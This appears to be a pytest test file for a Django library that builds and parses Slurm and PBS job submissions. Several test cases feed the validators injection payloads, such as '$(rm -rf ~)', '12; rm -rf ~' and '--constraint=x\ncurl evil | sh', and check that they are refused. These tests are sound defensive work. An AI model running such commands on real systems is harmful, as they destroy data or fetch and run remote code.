import json
import shlex
import uuid
from pathlib import Path

import pytest

from django_remote_submission.schedulers import pbs, slurm
from django_remote_submission.schedulers.base import (
    Ending,
    Limits,
    Resources,
    SchedulerDefaults,
    Submission,
    directive_option,
    job_name,
)
from django_remote_submission.transport.shell import quote

FIXTURES = Path(__file__).parent / "schedulers"
UUID = uuid.UUID("9c6d99c1-f850-45a9-bf79-6b45a80bdc45")


def make_submission(**overrides):
    values = {
        "job_uuid": UUID,
        "control_directory": "/home/alice/jobs/.drs/9c6d99c1",
        "script_path": "/home/alice/jobs/.drs/9c6d99c1/batch.sh",
        "resources": Resources(),
        "defaults": SchedulerDefaults(),
    }
    values.update(overrides)
    return Submission(**values)


def recorded(name):
    """A recorded Slurm output without its "# " header lines (command, exit code)."""
    path = FIXTURES / "slurm" / name
    if not path.exists():
        pytest.skip(f"{path} has not been recorded yet")
    lines = path.read_text().splitlines(keepends=True)
    while lines and lines[0].startswith("# "):
        lines.pop(0)
    return "".join(lines)


def pbs_fixture(name):
    return (FIXTURES / "pbs" / name).read_text()


# Resources and limits


def test_resources_within_limits_have_no_problems():
    limits = Limits(cpus=4, memory_mb=8000, time_limit_s=3600, gpus=1, nodes=2)
    resources = Resources(cpus=4, memory_mb=8000, time_limit_s=3600, gpus=1, nodes=2)
    assert resources.validate(limits) == []
    assert Resources().validate(limits) == []


def test_over_limit_resources_say_what_was_asked_and_allowed():
    limits = Limits(cpus=4, memory_mb=1000, time_limit_s=600, gpus=0, nodes=1)
    problems = Resources(cpus=8, memory_mb=2000, time_limit_s=601, gpus=1, nodes=3).validate(limits)
    assert problems == [
        "8 CPUs asked, this server allows at most 4",
        "2000 MB of memory asked, this server allows at most 1000",
        "601 seconds of time asked, this server allows at most 600",
        "1 GPU asked, this server allows at most 0",
        "3 nodes asked, this server allows at most 1",
    ]


@pytest.mark.parametrize(
    ("resources", "problem"),
    [
        (Resources(cpus=0), "0 CPUs asked: ask for at least 1, or leave it empty"),
        (Resources(nodes=-1), "-1 nodes asked: ask for at least 1, or leave it empty"),
        (Resources(cpus=1.5), "CPUs must be a whole number, not 1.5"),
        (Resources(memory_mb="100"), "MB of memory must be a whole number, not '100'"),
        (Resources(gpus=True), "GPUs must be a whole number, not True"),
    ],
)
def test_zero_negative_and_non_integer_resources_are_problems(resources, problem):
    assert resources.validate(Limits()) == [problem]
    assert resources.validate() == [problem]


# Names and directives


def test_job_name_carries_the_uuid():
    assert job_name(UUID) == "drs-9c6d99c1-f850-45a9-bf79-6b45a80bdc45"
    assert job_name(str(UUID).upper()) == "drs-9c6d99c1-f850-45a9-bf79-6b45a80bdc45"
    assert slurm.job_name(UUID) == pbs.job_name(UUID) == job_name(UUID)


@pytest.mark.parametrize(
    "odd", ["", "not-a-uuid", "9c6d99c1\nf850", "$(rm -rf ~)", f"{UUID} --uid=0", None]
)
def test_job_name_refuses_anything_but_a_uuid(odd):
    with pytest.raises(ValueError, match="a job's uuid is needed"):
        job_name(odd)


@pytest.mark.parametrize(
    ("directive", "option"),
    [
        ("--constraint=haswell", "--constraint"),
        ("--constraint haswell", "--constraint"),
        ("  --exclusive  ", "--exclusive"),
        ("-C haswell", "-C"),
        ("-Chaswell", "-C"),
        ("-l place=excl", "-l"),
        ("-lplace=excl", "-l"),
    ],
)
def test_directive_option(directive, option):
    assert directive_option(directive) == option


@pytest.mark.parametrize("directive", ["constraint=x", "", "--", "---x", "--=x", "- l", "#x"])
def test_a_directive_must_start_with_an_option(directive):
    with pytest.raises(ValueError, match="doesn't start with an option"):
        directive_option(directive)


@pytest.mark.parametrize(
    "directive",
    [
        "--constraint=haswell\nrm -rf ~",
        "--constraint=haswell\r\nrm -rf ~",
        "--constraint=a\x00b",
        "--comment=\x1b[2J",
    ],
)
def test_a_directive_with_a_newline_or_nul_is_refused(directive):
    with pytest.raises(ValueError, match="newline or another control character"):
        directive_option(directive)


def test_allowed_directives_are_written_after_the_apps_own():
    defaults = SchedulerDefaults(
        directives=("--exclusive",), allowed_options=frozenset({"--constraint", "-C"})
    )
    header = slurm.batch_header(
        make_submission(defaults=defaults, directives=("--constraint=haswell", "-C gpu"))
    )
    assert header.endswith(
        "#SBATCH --no-requeue\n#SBATCH --exclusive\n#SBATCH --constraint=haswell\n#SBATCH -C gpu\n"
    )


def test_a_job_directive_outside_the_allowlist_is_refused():
    defaults = SchedulerDefaults(allowed_options=frozenset({"--constraint"}))
    with pytest.raises(ValueError, match=r"--exclusive, which this server does not allow"):
        slurm.batch_header(make_submission(defaults=defaults, directives=("--exclusive",)))
    # An abbreviation of an allowed option is another option to the allowlist.
    with pytest.raises(ValueError, match="does not allow"):
        slurm.batch_header(make_submission(defaults=defaults, directives=("--cons=x",)))
    with pytest.raises(ValueError, match=r"allowed: none"):
        slurm.batch_header(make_submission(directives=("--constraint=x",)))


@pytest.mark.parametrize(
    "directive",
    [
        "--job-name=other",
        "-J other",
        "--output=/tmp/x",
        "--out=/tmp/x",  # sbatch takes an unambiguous prefix for the option
        "-o /tmp/x",
        "--requeue",
        "--time=99:00:00",
        "--array=1-3",
    ],
)
def test_nobody_may_change_the_options_the_app_writes(directive):
    option = directive_option(directive)
    everything = frozenset({option})
    admins = SchedulerDefaults(directives=(directive,))
    users = SchedulerDefaults(allowed_options=everything)
    with pytest.raises(ValueError, match="which this app sets itself"):
        slurm.batch_header(make_submission(defaults=admins))
    with pytest.raises(ValueError, match="which this app sets itself"):
        slurm.batch_header(make_submission(defaults=users, directives=(directive,)))


def test_a_hostile_job_directive_is_refused_even_when_its_option_is_allowed():
    defaults = SchedulerDefaults(allowed_options=frozenset({"--constraint"}))
    with pytest.raises(ValueError, match="newline"):
        slurm.batch_header(
            make_submission(defaults=defaults, directives=("--constraint=x\ncurl evil | sh",))
        )


# Slurm: the batch header


def test_slurm_header_with_everything():
    defaults = SchedulerDefaults(
        partition="debug", account="proj-1", qos="normal", time_limit_s=7200
    )
    resources = Resources(cpus=4, memory_mb=2048, time_limit_s=601, gpus=2, nodes=1)
    header = slurm.batch_header(make_submission(resources=resources, defaults=defaults))
    assert header == (
        "#SBATCH --job-name=drs-9c6d99c1-f850-45a9-bf79-6b45a80bdc45\n"
        "#SBATCH --partition=debug\n"
        "#SBATCH --account=proj-1\n"
        "#SBATCH --qos=normal\n"
        "#SBATCH --time=0-00:11:00\n"
        "#SBATCH --cpus-per-task=4\n"
        "#SBATCH --mem=2048M\n"
        "#SBATCH --gres=gpu:2\n"
        "#SBATCH --nodes=1\n"
        "#SBATCH --output=/dev/null\n"
        "#SBATCH --error=slurm.err\n"
        "#SBATCH --no-requeue\n"
    )


def test_slurm_header_with_nothing_asked_leaves_it_to_slurm():
    assert slurm.batch_header(make_submission()) == (
        "#SBATCH --job-name=drs-9c6d99c1-f850-45a9-bf79-6b45a80bdc45\n"
        "#SBATCH --output=/dev/null\n"
        "#SBATCH --error=slurm.err\n"
        "#SBATCH --no-requeue\n"
    )


def test_slurm_time_is_the_jobs_timeout_else_the_servers_default():
    defaults = SchedulerDefaults(time_limit_s=3600)
    assert "--time=0-01:00:00" in slurm.batch_header(make_submission(defaults=defaults))
    with_timeout = make_submission(defaults=defaults, resources=Resources(time_limit_s=90))
    assert "--time=0-00:02:00" in slurm.batch_header(with_timeout)


@pytest.mark.parametrize(
    ("seconds", "shown"),
    [
        (1, "0-00:01:00"),
        (60, "0-00:01:00"),
        (61, "0-00:02:00"),
        (3600, "0-01:00:00"),
        (86400, "1-00:00:00"),
        (90061, "1-01:02:00"),
        (30 * 86400, "30-00:00:00"),
    ],
)
def test_slurm_time_rounds_up_to_whole_minutes(seconds, shown):
    assert slurm.slurm_time(seconds) == shown


@pytest.mark.parametrize(
    ("defaults", "what"),
    [
        (SchedulerDefaults(partition="$(rm -rf ~)"), "partition"),
        (SchedulerDefaults(partition="debug\n#SBATCH --uid=0"), "partition"),
        (SchedulerDefaults(account="a b"), "account"),
        (SchedulerDefaults(qos="normal'"), "QOS"),
        (SchedulerDefaults(partition="-x"), "partition"),
    ],
)
def test_slurm_header_refuses_names_that_could_break_out(defaults, what):
    with pytest.raises(ValueError, match=f"the {what} .* can't be used"):
        slurm.batch_header(make_submission(defaults=defaults))


def test_slurm_header_refuses_bad_resources_and_defaults():
    with pytest.raises(ValueError, match="0 CPUs asked"):
        slurm.batch_header(make_submission(resources=Resources(cpus=0)))
    with pytest.raises(ValueError, match="memory must be a whole number"):
        slurm.batch_header(make_submission(resources=Resources(memory_mb="1G\n#x")))
    with pytest.raises(ValueError, match="default time limit is wrong"):
        slurm.batch_header(make_submission(defaults=SchedulerDefaults(time_limit_s=-5)))
    with pytest.raises(ValueError, match="a job's uuid is needed"):
        slurm.batch_header(make_submission(job_uuid="x\n#SBATCH --uid=0"))


def test_every_header_line_is_a_directive():
    defaults = SchedulerDefaults(
        partition="p",
        account="a",
        qos="q",
        directives=("--exclusive",),
        allowed_options=frozenset({"--constraint"}),
    )
    submission = make_submission(
        defaults=defaults,
        resources=Resources(1, 1, 1, 1, 1),
        directives=("--constraint=x",),
    )
    for line in slurm.batch_header(submission).splitlines():
        assert line.startswith("#SBATCH --")
    pbs_submission = make_submission(
        defaults=SchedulerDefaults(partition="p", account="a"),
        resources=Resources(1, 1, 1, 1, 2),
    )
    for line in pbs.batch_header(pbs_submission).splitlines():
        assert line.startswith("#PBS -")


# Slurm: commands


def test_slurm_commands_are_argument_lists():
    assert slurm.sbatch_command("/home/a/batch.sh") == ["sbatch", "--parsable", "/home/a/batch.sh"]
    assert slurm.squeue_command() == [
        "squeue",
        "--me",
        "--noheader",
        "--states=all",
        "--format=%i|%j|%T|%r",
    ]
    assert slurm.squeue_command("alice")[1] == "--user=alice"
    assert slurm.scontrol_show_job_command("12") == ["scontrol", "--oneliner", "show", "job", "12"]
    assert slurm.scancel_command("12") == ["scancel", "12"]
    assert slurm.scancel_command("12_3") == ["scancel", "12_3"]


def test_commands_survive_the_transports_quoting():
    # squeue's format holds "|" and "%", which a shell would read: the transport quotes.
    for argv in (
        slurm.squeue_command(),
        slurm.sbatch_command("/home/a/my jobs/batch.sh"),
        pbs.qstat_command(["1.pbs-head"]),
        pbs.qselect_command(UUID),
    ):
        assert shlex.split(quote(argv)) == argv


def test_a_script_path_never_reads_as_an_option():
    assert slurm.sbatch_command("-x.sh")[-1] == "./-x.sh"
    assert pbs.qsub_command("-x.sh")[-1] == "./-x.sh"


@pytest.mark.parametrize("job_id", ["", "-1", "12; rm -rf ~", "12\n", "abc", "--all"])
def test_slurm_commands_refuse_what_is_not_a_job_id(job_id):
    with pytest.raises(ValueError, match="is not a Slurm job id"):
        slurm.scancel_command(job_id)
    with pytest.raises(ValueError, match="is not a Slurm job id"):
        slurm.scontrol_show_job_command(job_id)


@pytest.mark.parametrize("user", ["", "-a", "alice bob", "$(id)", "al\nice"])
def test_squeue_refuses_what_is_not_a_login(user):
    with pytest.raises(ValueError, match="is not a login name"):
        slurm.squeue_command(user)


# Slurm: sbatch


@pytest.mark.parametrize(("output", "job_id"), [("12\n", "12"), ("345;drs-test\n", "345")])
def test_parse_sbatch(output, job_id):
    assert slurm.parse_sbatch(output) == job_id


@pytest.mark.parametrize(
    "output",
    ["", "\n", "Submitted batch job 12\n", "12\n13\n", "12;\n", "sbatch: error: Batch job"],
)
def test_parse_sbatch_refuses_anything_else_and_says_to_look_before_retrying(output):
    with pytest.raises(ValueError, match="look it up by name before submitting again"):
        slurm.parse_sbatch(output)


def test_parse_sbatch_reads_a_recorded_sbatch():
    assert slurm.parse_sbatch(recorded("sbatch-parsable.txt")).isdigit()


# Slurm: squeue

# squeue(1): %i job id, %j name, %T state (long form), %r reason.
SQUEUE = (
    "41|drs-9c6d99c1-f850-45a9-bf79-6b45a80bdc45|RUNNING|None\n"
    "42|drs-f277da1a-3838-41d4-a2fb-ef6668aa9da4|PENDING|Priority\n"
    "43|my job|with bars|PENDING|Resources\n"
    "44|other|PENDING|ReqNodeNotAvail, UnavailableNodes:node[01-02]\n"
    "45|held|PENDING|JobHeldUser\n"
    "46|limited|PENDING|QOSMaxJobsPerUserLimit\n"
    "47|late|TIMEOUT|TimeLimit\n"
    "48|gone|CANCELLED|None\n"
    "49_[1-3]|array|PENDING|AssocGrpGRES\n"
    "50|closing|COMPLETING|None\n"
    "51|new|SOME_FUTURE_STATE|None\n"
)


def test_parse_squeue_lists_every_job_by_id():
    entries = slurm.parse_squeue(SQUEUE)
    assert list(entries) == [str(n) for n in range(41, 49)] + ["49_[1-3]", "50", "51"]
    running = entries["41"]
    assert running.name == "drs-9c6d99c1-f850-45a9-bf79-6b45a80bdc45"
    assert (running.state, running.reason, running.ending) == ("running", "", None)
    assert (running.raw_state, running.raw_reason) == ("RUNNING", "None")


def test_parse_squeue_reasons_in_words():
    entries = slurm.parse_squeue(SQUEUE)
    assert entries["42"].reason == "waiting for a higher-priority job"
    assert entries["42"].raw_reason == "Priority"
    assert entries["43"].name == "my job|with bars"
    assert entries["43"].reason == "waiting for free CPUs or memory"
    assert entries["44"].reason == (
        "waiting: a node it needs is down, drained or reserved (UnavailableNodes:node[01-02])"
    )
    assert entries["45"].reason == "held by its owner (scontrol release lets it go)"
    assert entries["46"].reason == "waiting: you already run as many jobs as your QOS allows"
    assert entries["49_[1-3]"].reason == (
        "waiting: your account's group has reached a limit (AssocGrpGRES)"
    )


def test_parse_squeue_states_and_endings():
    entries = slurm.parse_squeue(SQUEUE)
    assert entries["47"].state == "ended"
    assert entries["47"].ending == Ending(
        "timeout", "Slurm ended the job: its time limit was reached."
    )
    assert entries["48"].ending.kind == "canceled"
    assert entries["50"].state == "ending"
    assert entries["50"].ending is None
    assert entries["51"].state == "unknown"


def test_parse_squeue_finds_a_job_by_its_name():
    entries = slurm.parse_squeue(SQUEUE)
    name = slurm.job_name("f277da1a-3838-41d4-a2fb-ef6668aa9da4")
    assert [entry.job_id for entry in entries.values() if entry.name == name] == ["42"]


def test_parse_squeue_of_no_jobs_is_empty():
    assert slurm.parse_squeue("") == {}
    assert slurm.parse_squeue("\n") == {}


@pytest.mark.parametrize(
    "output",
    [
        "garbage\n",
        "41|drs-x|RUNN",  # cut short
        "41|RUNNING|None\n",  # a field missing
        "slurm_load_jobs error: Unable to contact slurm controller (connect failure)\n",
        SQUEUE + "x1|name|RUNNING|None\n",
        "|name|RUNNING|None\n",
    ],
)
def test_parse_squeue_refuses_what_it_cannot_read(output):
    with pytest.raises(ValueError, match="squeue printed a line"):
        slurm.parse_squeue(output)


@pytest.mark.parametrize(
    ("reason", "words"),
    [
        ("None", "waiting for the scheduler to look at it"),
        ("Resources", "waiting for free CPUs or memory"),
        ("AssocGrpCPULimit", "waiting: your account's group already uses all the CPUs it may"),
        ("Dependency", "waiting for the jobs it depends on"),
        ("BeginTime", "waiting for its start time"),
        ("JobHeldAdmin", "held by an administrator"),
        ("PartitionTimeLimit", "can't start: its time limit is longer than the partition allows"),
        (
            "QOSMaxWallDurationPerJobLimit",
            "can't start: its time limit is longer than its QOS allows",
        ),
        (
            "launch failed requeued held",
            "held after its launch failed: an administrator must release it",
        ),
        ("QOSGrpNodeLimit", "waiting: your QOS's group has reached a limit (QOSGrpNodeLimit)"),
        ("SomethingNew", "SomethingNew"),
    ],
)
def test_slurm_reason_in_words(reason, words):
    assert slurm.reason_in_words(reason) == words


def test_parse_squeue_reads_recorded_squeue_lines():
    # Recorded with more fields (%i|%j|%T|%r|%M|%l|%S|%V): keep the first four.
    lines = recorded("squeue-wide.txt").splitlines()
    entries = slurm.parse_squeue("\n".join("|".join(line.split("|")[:4]) for line in lines))
    assert entries
    assert {entry.state for entry in entries.values()} == {"queued", "running"}
    reasons = {entry.raw_reason: entry.reason for entry in entries.values()}
    assert reasons == {
        "Resources": "waiting for free CPUs or memory",
        "Priority": "waiting for a higher-priority job",
        "None": "",
    }
    named = [entry for entry in entries.values() if entry.name.startswith("drs-")]
    assert named
    assert all(entry.name == job_name(entry.name.removeprefix("drs-")) for entry in named)


def test_parse_squeue_reads_recorded_states_and_reasons():
    # Recorded without the name (%i|%T|%r): give each job one.
    lines = recorded("squeue-state-reason.txt").splitlines()
    output = "\n".join(line.replace("|", "|some name|", 1) for line in lines)
    entries = slurm.parse_squeue(output)
    assert len(entries) == len(lines)
    assert all(entry.state in ("queued", "running") for entry in entries.values())


def test_recorded_squeue_state_words_are_known():
    for name in ("squeue-job-pending.txt", "squeue-job-running.txt"):
        assert slurm.queue_state(recorded(name).strip()) in ("queued", "running")
    assert slurm.queue_state(recorded("squeue-job-cancelled-completing.txt").strip()) == "ending"


# Slurm: scontrol

SCONTROL_TIMEOUT = (
    "JobId=47 JobName=drs-9c6d99c1-f850-45a9-bf79-6b45a80bdc45 UserId=alice(1000) "
    "GroupId=alice(1000) MCS_label=N/A Priority=4294901758 Nice=0 Account=(null) "
    "QOS=(null) JobState=TIMEOUT Reason=TimeLimit Dependency=(null) Requeue=0 Restarts=0 "
    "BatchFlag=1 Reboot=0 ExitCode=0:15 RunTime=00:10:02 TimeLimit=00:10:00 "
    "TRES=cpu=1,mem=1000M,node=1,billing=1 Socks/Node=* NtasksPerN:B:S:C=0:0:*:* "
    "MinMemoryNode=1000M Command=/home/alice/my jobs/batch.sh "
    "WorkDir=/home/alice/my jobs JobState=COMPLETED StdOut=/dev/null Power= "
)


def test_parse_scontrol_job_splits_on_keys_and_keeps_spaces_in_values():
    fields = slurm.parse_scontrol_job(SCONTROL_TIMEOUT)
    assert fields["JobId"] == "47"
    assert fields["TRES"] == "cpu=1,mem=1000M,node=1,billing=1"
    assert fields["Socks/Node"] == "*"
    assert fields["NtasksPerN:B:S:C"] == "0:0:*:*"
    assert fields["Command"] == "/home/alice/my jobs/batch.sh"
    assert fields["Power"] == ""


def test_parse_scontrol_job_keeps_the_first_of_a_key_a_path_repeats():
    assert slurm.parse_scontrol_job(SCONTROL_TIMEOUT)["JobState"] == "TIMEOUT"


@pytest.mark.parametrize(
    "output",
    [
        "",
        "slurm_load_jobs error: Invalid job id specified\n",
        "JobId=1 JobName=x\n",  # no JobState: cut short
        "JobId=1 JobState=RUNNING\nJobId=2 JobState=RUNNING\n",
        "garbage JobState=COMPLETED",
    ],
)
def test_parse_scontrol_job_refuses_what_it_cannot_read(output):
    with pytest.raises(ValueError, match="scontrol"):
        slurm.parse_scontrol_job(output)


def test_parse_scontrol_reads_recorded_jobs():
    completed = slurm.parse_scontrol_job(recorded("scontrol-show-job-completed.txt"))
    assert completed["JobName"].startswith("drs-")
    assert slurm.ending_of(completed).kind == "completed"

    failed = slurm.parse_scontrol_job(recorded("scontrol-show-job-failed.txt"))
    assert slurm.ending_of(failed) == Ending(
        "failed", "Slurm ended the job: its batch script exited with code 3."
    )

    killed = slurm.parse_scontrol_job(recorded("scontrol-show-job-killed-by-signal.txt"))
    assert slurm.ending_of(killed) == Ending(
        "failed", "Slurm ended the job: it was killed by signal 9 (SIGKILL)."
    )


def test_parse_scontrol_refuses_a_recorded_unknown_job():
    with pytest.raises(ValueError, match="scontrol did not print one job"):
        slurm.parse_scontrol_job(recorded("scontrol-show-job-unknown.txt"))


def test_parse_scontrol_reads_a_recorded_timeout():
    fields = slurm.parse_scontrol_job(recorded("scontrol-show-job-timeout.txt"))
    ending = slurm.ending_of(fields)
    assert ending.kind == "timeout"
    assert f"its time limit ({fields['TimeLimit']}) was reached" in ending.message


def test_parse_scontrol_reads_recorded_queued_running_and_canceled_jobs():
    pending = slurm.parse_scontrol_job(recorded("scontrol-show-job-pending-resources.txt"))
    assert slurm.queue_state(pending["JobState"]) == "queued"
    assert slurm.reason_in_words(pending["Reason"]) == "waiting for free CPUs or memory"
    assert slurm.ending_of(pending).kind == "unknown"
    running = slurm.parse_scontrol_job(recorded("scontrol-show-job-running.txt"))
    assert slurm.queue_state(running["JobState"]) == "running"
    for name in (
        "scontrol-show-job-cancelled-running.txt",
        "scontrol-show-job-cancelled-pending.txt",
    ):
        assert slurm.ending_of(slurm.parse_scontrol_job(recorded(name))).kind == "canceled"


# Slurm: endings


@pytest.mark.parametrize(
    ("fields", "ending"),
    [
        (
            {"JobState": "COMPLETED", "ExitCode": "0:0"},
            Ending("completed", "Slurm reports the job completed."),
        ),
        (
            {"JobState": "TIMEOUT", "TimeLimit": "0:10:00"},
            Ending("timeout", "Slurm ended the job: its time limit (0:10:00) was reached."),
        ),
        (
            {"JobState": "OUT_OF_MEMORY", "MinMemoryNode": "1000M", "ExitCode": "0:125"},
            Ending(
                "out_of_memory",
                "Slurm ended the job: it used more memory than it asked for (1000M).",
            ),
        ),
        (
            {"JobState": "NODE_FAIL", "NodeList": "node07"},
            Ending("node_fail", "Slurm ended the job: a node it ran on failed (node07)."),
        ),
        (
            {"JobState": "BOOT_FAIL", "NodeList": "(null)"},
            Ending("node_fail", "Slurm ended the job: a node it ran on failed to boot."),
        ),
        (
            {"JobState": "CANCELLED", "Reason": "None"},
            Ending("canceled", "Slurm ended the job: it was canceled (scancel)."),
        ),
        (
            {"JobState": "CANCELLED by 0"},
            Ending(
                "canceled",
                "Slurm ended the job: it was canceled (scancel) by an administrator (root).",
            ),
        ),
        (
            {"JobState": "CANCELLED by 1000"},
            Ending(
                "canceled",
                "Slurm ended the job: it was canceled (scancel) by the user with uid 1000.",
            ),
        ),
        (
            {"JobState": "PREEMPTED"},
            Ending("preempted", "Slurm ended the job: it was preempted by a higher-priority job."),
        ),
        (
            {"JobState": "DEADLINE"},
            Ending("timeout", "Slurm ended the job: it could not finish before its deadline."),
        ),
        (
            {"JobState": "FAILED", "Reason": "NonZeroExitCode", "ExitCode": "2:0"},
            Ending("failed", "Slurm ended the job: its batch script exited with code 2."),
        ),
        (
            {"JobState": "FAILED", "Reason": "RaisedSignal:11(Segmentation_fault)"},
            Ending("failed", "Slurm ended the job: it was killed by signal 11 (SIGSEGV)."),
        ),
        (
            {"JobState": "FAILED", "Reason": "JobLaunchFailure", "ExitCode": "0:0"},
            Ending("failed", "Slurm ended the job: Slurm could not launch it."),
        ),
        (
            {"JobState": "FAILED", "ExitCode": "garbage"},
            Ending("failed", "Slurm ended the job: it failed (no reason given)."),
        ),
    ],
)
def test_slurm_ending_of(fields, ending):
    assert slurm.ending_of(fields) == ending


@pytest.mark.parametrize(
    "fields", [{}, {"JobState": ""}, {"JobState": "RUNNING"}, {"JobState": "PENDING"}]
)
def test_a_job_slurm_has_not_ended_is_never_taken_as_finished(fields):
    assert slurm.ending_of(fields).kind == "unknown"


# PBS: the batch header


def test_pbs_header_with_everything():
    defaults = SchedulerDefaults(partition="workq", account="proj-1", time_limit_s=7200)
    resources = Resources(cpus=4, memory_mb=2048, time_limit_s=90061, gpus=2, nodes=3)
    header = pbs.batch_header(make_submission(resources=resources, defaults=defaults))
    assert header == (
        "#PBS -N drs-9c6d99c1-f850-45a9-bf79-6b45a80bdc45\n"
        "#PBS -q workq\n"
        "#PBS -A proj-1\n"
        "#PBS -l walltime=25:01:01\n"
        "#PBS -l select=3:ncpus=4:mem=2048mb:ngpus=2\n"
        "#PBS -l place=scatter\n"
        "#PBS -o /dev/null\n"
        "#PBS -e /dev/null\n"
        "#PBS -r n\n"
    )


def test_pbs_header_with_nothing_asked():
    assert pbs.batch_header(make_submission()) == (
        "#PBS -N drs-9c6d99c1-f850-45a9-bf79-6b45a80bdc45\n"
        "#PBS -o /dev/null\n"
        "#PBS -e /dev/null\n"
        "#PBS -r n\n"
    )


def test_pbs_header_one_chunk_and_the_default_time():
    header = pbs.batch_header(
        make_submission(resources=Resources(cpus=2), defaults=SchedulerDefaults(time_limit_s=600))
    )
    assert "#PBS -l walltime=00:10:00\n#PBS -l select=1:ncpus=2\n#PBS -o" in header
    assert "place" not in header


def test_pbs_has_no_qos():
    with pytest.raises(ValueError, match="PBS has no QOS"):
        pbs.batch_header(make_submission(defaults=SchedulerDefaults(qos="normal")))


def test_pbs_header_refuses_hostile_names_and_directives():
    with pytest.raises(ValueError, match="the queue .* can't be used"):
        pbs.batch_header(make_submission(defaults=SchedulerDefaults(partition="$(rm -rf ~)")))
    with pytest.raises(ValueError, match="newline"):
        pbs.batch_header(make_submission(defaults=SchedulerDefaults(directives=("-l x=1\nid",))))


def test_pbs_directives_and_the_resources_the_app_sets():
    defaults = SchedulerDefaults(
        directives=("-W group_list=hpc",), allowed_options=frozenset({"-l", "-m"})
    )
    header = pbs.batch_header(
        make_submission(defaults=defaults, directives=("-l place=excl:scatter", "-m n"))
    )
    assert header.endswith("#PBS -W group_list=hpc\n#PBS -l place=excl:scatter\n#PBS -m n\n")
    # The job's own placement replaces the app's scatter.
    spread = make_submission(
        defaults=defaults, resources=Resources(nodes=2), directives=("-l place=excl",)
    )
    assert "scatter" not in pbs.batch_header(spread)
    for directive in ("-l walltime=99:00:00", "-lselect=10:ncpus=64", "-l software=x,mem=9gb"):
        with pytest.raises(ValueError, match="which this app sets itself"):
            pbs.batch_header(make_submission(defaults=defaults, directives=(directive,)))
    for directive in ("-N other", "-j oe", "-r y", "-J 1-10"):
        with pytest.raises(ValueError, match="which this app sets itself"):
            pbs.batch_header(make_submission(defaults=SchedulerDefaults(directives=(directive,))))
    with pytest.raises(ValueError, match="does not allow"):
        pbs.batch_header(make_submission(defaults=defaults, directives=("-W block=true",)))


@pytest.mark.parametrize(
    ("seconds", "shown"), [(1, "00:00:01"), (600, "00:10:00"), (90061, "25:01:01")]
)
def test_pbs_time(seconds, shown):
    assert pbs.pbs_time(seconds) == shown


# PBS: commands


def test_pbs_commands_are_argument_lists():
    assert pbs.qsub_command("/home/a/batch.sh") == ["qsub", "/home/a/batch.sh"]
    assert pbs.qstat_command(["1.pbs-head", "2.pbs-head"]) == [
        "qstat",
        "-f",
        "-F",
        "json",
        "-x",
        "1.pbs-head",
        "2.pbs-head",
    ]
    assert pbs.qdel_command("1.pbs-head") == ["qdel", "1.pbs-head"]
    assert pbs.qselect_command(UUID) == [
        "qselect",
        "-x",
        "-N",
        "drs-9c6d99c1-f850-45a9-bf79-6b45a80bdc45",
    ]
    assert pbs.qselect_command(UUID, "alice")[2:4] == ["-u", "alice"]


@pytest.mark.parametrize("job_id", ["", "-x", "1.pbs head", "1;id", "1.pbs\n"])
def test_pbs_commands_refuse_what_is_not_a_job_id(job_id):
    with pytest.raises(ValueError, match="is not a PBS job id"):
        pbs.qdel_command(job_id)
    with pytest.raises(ValueError, match="is not a PBS job id"):
        pbs.qstat_command([job_id])


def test_qstat_needs_a_job():
    with pytest.raises(ValueError, match="at least one job id"):
        pbs.qstat_command([])


def test_parse_qsub_and_qselect():
    assert pbs.parse_qsub(pbs_fixture("qsub.txt")) == "1001.pbs-head"
    assert pbs.parse_qsub("12\n") == "12"
    assert pbs.parse_qselect(pbs_fixture("qselect.txt")) == ["1001.pbs-head", "1009.pbs-head"]
    assert pbs.parse_qselect("") == []


@pytest.mark.parametrize(
    "output", ["", "qsub: Unknown queue\n", "1.a\n2.a\n", "Job 12 submitted\n"]
)
def test_parse_qsub_refuses_anything_else(output):
    with pytest.raises(ValueError, match="look it up by name before submitting again"):
        pbs.parse_qsub(output)


def test_parse_qselect_refuses_garbage():
    with pytest.raises(ValueError, match="not a job id"):
        pbs.parse_qselect("qselect: Unknown option\n")


# PBS: qstat -f -F json


def test_parse_qstat_a_queued_job_with_its_comment():
    entry = pbs.parse_qstat_json(pbs_fixture("qstat-queued.json"))["1001.pbs-head"]
    assert entry.name == "drs-6f1c1b8e-2f43-4a57-9a3e-3d1f0c7e2a01"
    assert (entry.state, entry.raw_state, entry.ending) == ("queued", "Q", None)
    assert entry.reason == (
        "waiting for free resources (Insufficient amount of resource: ncpus (R: 2 A: 0 T: 8))"
    )
    assert entry.raw_reason.startswith("Not Running: ")


def test_parse_qstat_a_running_job_waits_for_nothing():
    entry = pbs.parse_qstat_json(pbs_fixture("qstat-running.json"))["1002.pbs-head"]
    assert (entry.state, entry.reason, entry.ending) == ("running", "", None)


def test_parse_qstat_a_held_job():
    entry = pbs.parse_qstat_json(pbs_fixture("qstat-held.json"))["1003.pbs-head"]
    assert entry.state == "held"
    assert entry.reason == "held by its owner (qrls releases it)"


@pytest.mark.parametrize(
    ("fixture", "job_id", "ending"),
    [
        ("qstat-finished-0.json", "1004", Ending("completed", "PBS reports the job completed.")),
        (
            "qstat-finished-3.json",
            "1005",
            Ending("failed", "PBS ended the job: its batch script exited with code 3."),
        ),
        (
            "qstat-finished-walltime.json",
            "1006",
            Ending(
                "timeout",
                "PBS ended the job: its time limit was reached (JOB_EXEC_KILL_WALLTIME).",
            ),
        ),
        (
            "qstat-finished-sigterm.json",
            "1007",
            Ending(
                "canceled",
                "PBS ended the job: it was killed by signal 15 (SIGTERM), as qdel does: "
                "it was deleted.",
            ),
        ),
        (
            "qstat-deleted-while-queued.json",
            "1008",
            Ending("canceled", "PBS ended the job: it was deleted (qdel) before it started."),
        ),
    ],
)
def test_parse_qstat_finished_jobs(fixture, job_id, ending):
    entry = pbs.parse_qstat_json(pbs_fixture(fixture))[f"{job_id}.pbs-head"]
    assert entry.state == "ended"
    assert entry.reason == ""
    assert entry.ending == ending


def test_parse_qstat_many_jobs_in_one_listing():
    entries = pbs.parse_qstat_json(pbs_fixture("qstat-many.json"))
    assert len(entries) == 8
    assert {entry.state for entry in entries.values()} == {"queued", "running", "held", "ended"}
    for job_id, entry in entries.items():
        single = json.loads(pbs_fixture("qstat-many.json"))["Jobs"][job_id]
        assert entry.name == single["Job_Name"]


def test_parse_qstat_no_jobs():
    assert pbs.parse_qstat_json(pbs_fixture("qstat-none.json")) == {}


@pytest.mark.parametrize(
    "output",
    [
        "",
        "qstat: Unknown Job Id 12.pbs-head\n",
        pbs_fixture("qstat-many.json")[:500],  # cut short
        "[]",
        '{"Jobs": {}}',  # not qstat's document
